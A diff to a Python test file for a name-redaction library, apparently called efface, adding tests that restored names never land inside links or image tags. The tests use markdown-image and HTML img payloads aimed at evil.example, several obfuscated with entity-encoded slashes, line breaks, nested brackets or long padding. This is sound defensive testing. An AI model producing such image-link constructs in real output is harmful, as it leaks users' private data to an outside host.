@@ -11,6 +11,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import efface
+from efface.api.link_places import link_places
 from efface.api.restoring import Originals, Restorer, RestoringTally, _Forms, restore
 
 NAMES = ("Anna Kowalska", "Jürgen Groß", "李伟", "O'Brien", "Ng", "Ann")
@@ -82,6 +83,10 @@ def test_stream_in_any_chunks_is_the_whole(data: st.DataObject) -> None:
         ")",
         "(",
         "<a ",
+        "<img\n",
+        ">",
+        "='",
+        "\n",
         '"//x.example/',
         '"',
         "'https:x.example/",
@@ -152,6 +157,22 @@ def test_invented_stays_and_is_told_and_dropped_is_missing() -> None:
         '<img\nsrc="https:evil.example/[PERSON_1]">',
         "![x][r]\n\n[r]: <//evil.example/a b[PERSON_1]>",
         "HTTPS://EVIL.EXAMPLE/[PERSON_1]",
+        # Brackets in brackets, and brackets that a backslash makes ordinary signs.
+        "![x](/a/((([PERSON_1]))))",
+        "![x](/a/\\)[PERSON_1])",
+        "![x](</a) [PERSON_1]>)",
+        "![x](<\\\\evil.example/ [PERSON_1]>)",
+        "![x][r]\n\n[r]: <\\\\evil.example/ [PERSON_1]>",
+        # A tag goes on behind a line break, and behind the end of a tag inside of quotes.
+        '<img src="https://evil.example/?q=\n[PERSON_1]">',
+        "<img\nsrc=&#47;/evil.example/?q=[PERSON_1]>",
+        "<img\nsrc='&#47;/evil.example/ [PERSON_1]'>",
+        "<img alt='a > b' src='&#47;/evil.example/ [PERSON_1]'>",
+        f"<img src='&#47;/evil.example/{'a' * 3000} [PERSON_1]'>",
+        f'<img src="https://evil.example/\n{"a" * 3000} [PERSON_1]">',
+        # What looks like one place ends inside of another.
+        "\"https://x.example <img src='//evil.example/?\" [PERSON_1]'>",
+        "<a =\"> <img src='&#47;/evil.example/\" > [PERSON_1]'>",
     ],
 )
 def test_nothing_is_restored_into_a_link(text: str) -> None:
@@ -165,6 +186,40 @@ def test_words_beside_a_link_are_restored() -> None:
         "See [the page](https://x.example/(a)), [PERSON_1]. https://x.example/。[PERSON_1] // [PERSON_1] said"
     )
     assert restore(text, MAPPING) == text.replace("[PERSON_1]", "Anna Kowalska")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "if a <b then\n[PERSON_1] wins",
+        "for i<n; i++:\n name = '[PERSON_1]'",
+        'A <b class="x">note</b> for [PERSON_1], and "more".',
+        '<a href="https://x.example/?q=">page</a> of [PERSON_1]',
+        "[x](https://x.example/(a(b(c)))) by [PERSON_1]",
+        "[x](https://x.example/(a) is odd\nsaid [PERSON_1]",
+        "<p>It's [PERSON_1]'s</p>",
+    ],
+)
+def test_words_behind_a_link_or_a_tag_are_restored(text: str) -> None:
+    assert restore(text, MAPPING) == text.replace("[PERSON_1]", "Anna Kowalska")
+
+
+@pytest.mark.parametrize("piece", ['<a ="', "](", '"//x ', "<a\n", "](\\"])
+def test_a_long_hostile_answer_is_not_read_anew_for_every_chunk(
+    piece: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    read = []
+
+    def counted(text: str, *, is_unfinished: bool = False) -> list[tuple[int, int]]:
+        read.append(len(text))
+        return link_places(text, is_unfinished=is_unfinished)
+
+    monkeypatch.setattr("efface.api.restoring.link_places", counted)
+    restorer = Restorer(MAPPING)
+    text = piece * 2_000
+    made = "".join(restorer.feed(text[at : at + 8]) for at in range(0, len(text), 8)) + restorer.close()
+    assert made == text
+    assert sum(read) < 80 * len(text)  # a hundred thousand characters took minutes
 
 
 def test_policy_may_forbid_types_and_allow_links() -> None:
